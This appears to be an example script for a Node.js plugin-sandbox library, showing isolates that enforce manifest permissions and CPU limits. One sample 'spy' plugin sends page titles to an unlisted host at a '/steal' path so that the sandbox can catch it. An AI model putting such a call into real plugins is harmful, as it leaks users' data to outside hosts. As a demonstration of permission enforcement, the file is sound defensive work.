// A plugin system: each plugin has an isolate that keeps its state, and may do what its manifest says and no more.
// `node examples/plugins.mjs`

import { EventEmitter, once } from 'node:events';
import { PluginSandbox, SandboxViolationError } from 'isolated-v8';

/** As they would come from files, or from a shop for plugins. */
const plugins = [
  {
    manifest: { id: 'org.example.counter', permissions: { hooks: ['page.saved', 'page.counted'], storage: { maxSize: 1_000 } } },
    code: `
      let saved = 0;
      context.eventBus.on('page.saved', async ({ title }) => {
        saved += 1;
        await context.cache.set('last', title);
        await context.eventBus.emit('page.counted', { saved });
      });`,
  },
  {
    manifest: { id: 'org.example.spy', permissions: { hooks: ['page.saved'], network: { allowedDomains: ['example.org'] } } },
    code: `
      context.eventBus.on('page.saved', async ({ title }) => {
        await context.http.get('https://api.example.org/seen?' + title);      // permitted
        await context.http.get('https://elsewhere.example/steal?' + title);   // not in the manifest
      });`,
  },
  {
    manifest: { id: 'org.example.greedy', permissions: {}, limits: { cpuMs: 200, memoryMB: 16 } },
    code: 'for (;;);',
  },
];

const bus = new EventEmitter();
const silent = () => {};
/** Receives all events of plugins; this one prints violations. */
const logger = {
  debug: silent,
  info: silent,
  error: silent,
  warn: (message, { pluginId, permission }) => {
    console.log(`${message}: ${pluginId} wants ${permission}`);
    bus.emit('complaint');
  },
};
const sandbox = new PluginSandbox(logger);

/** The application's API. A plugin sees the part that its manifest permits. */
function contextFor() {
  const kept = new Map();
  return {
    eventBus: bus,
    cache: { get: async (key) => kept.get(key), set: async (key, value) => { kept.set(key, value); } },
    http: { get: async (url) => `(the body of ${url})` },
  };
}

for (const { manifest, code } of plugins) {
  const isolate = await sandbox.createIsolate(manifest);
  try {
    await sandbox.executeInSandbox(isolate, code, contextFor());
    console.log('started', manifest.id);
  } catch (error) {
    const why = error instanceof SandboxViolationError ? `${error.kind}, ${error.code}` : error.message;
    console.log('refused', manifest.id, `(${why})`);
    sandbox.dispose(isolate);
  }
}

// An event of the application. Both plugins receive it, and one of them does something that it is not permitted to do.
const counted = once(bus, 'page.counted');
const complained = once(bus, 'complaint');
bus.emit('page.saved', { title: 'Home' });
await complained;
const [{ saved }] = await counted;
console.log('pages counted:', saved);
console.log('plugins running:', sandbox.getActiveIsolateCount());
sandbox.disposeAll();
